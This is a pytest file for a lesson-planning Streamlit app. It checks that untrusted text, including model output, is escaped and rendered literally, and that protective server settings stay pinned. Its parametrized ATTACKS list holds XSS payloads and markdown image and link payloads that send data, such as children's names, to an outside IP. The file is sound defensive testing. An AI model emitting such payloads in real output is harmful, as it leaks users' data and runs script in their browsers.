"""Untrusted text (model output, library passages, citations, user and template names) is shown as
written: never as an image, a link, HTML or a formula. Checked with a CommonMark parser here and
in a real browser in test_browser.py."""

import html
import re
import tomllib
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from studio_ui import md

ROOT = Path(__file__).resolve().parents[1]
COMMONMARK = MarkdownIt("commonmark").enable("table").enable("strikethrough")

ATTACKS = [
    "![x](http://203.0.113.9/p.png?q=教案)",
    '<img src="http://203.0.113.9/p.png" onerror="alert(1)">',
    "[点这里](javascript:alert(1))",
    "<script>alert(1)</script>",
    "[参考](http://203.0.113.9/?notes=幼儿姓名)",
    "<http://203.0.113.9/auto>",
    "![][ref]\n\n[ref]: http://203.0.113.9/ref.png",
    "&lt;img src=x&gt;",
    "$\\href{http://203.0.113.9}{x}$",
    ":red[警告] :material/warning:",
    "# 标题\n> 引用\n- 列表\n1. 编号",
    "| a | b |\n| - | - |\n| ![x](http://203.0.113.9/t.png) | c |",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_untrusted_text_renders_as_its_own_characters(attack):
    rendered = COMMONMARK.render(md(attack))
    assert "<img" not in rendered and "<a " not in rendered and "<script" not in rendered
    assert not re.search(r"<(h\d|blockquote|ul|ol|table|code)\b", rendered)
    shown = html.unescape(re.sub(r"<[^>]+>", "", rendered))
    assert " ".join(shown.split()) == " ".join(attack.split())


def test_plain_chinese_text_is_unchanged():
    assert md("孩子们用旧报纸和毛线给小熊做帽子。") == "孩子们用旧报纸和毛线给小熊做帽子。"


GUARDED = {
    ("client", "showErrorDetails"): "none",
    ("server", "enableXsrfProtection"): True,
    ("browser", "gatherUsageStats"): False,
}


def test_streamlit_settings_that_protect_users_are_pinned():
    with open(ROOT / ".streamlit" / "config.toml", "rb") as handle:
        config = tomllib.load(handle)
    for (section, name), expected in GUARDED.items():
        assert config[section][name] == expected, f"{section}.{name}"


def test_upload_size_matches_the_librarys_cap():
    from lesson_studio.library.config import LibraryConfig

    with open(ROOT / ".streamlit" / "config.toml", "rb") as handle:
        config = tomllib.load(handle)
    assert config["server"]["maxUploadSize"] == LibraryConfig().max_file_mb
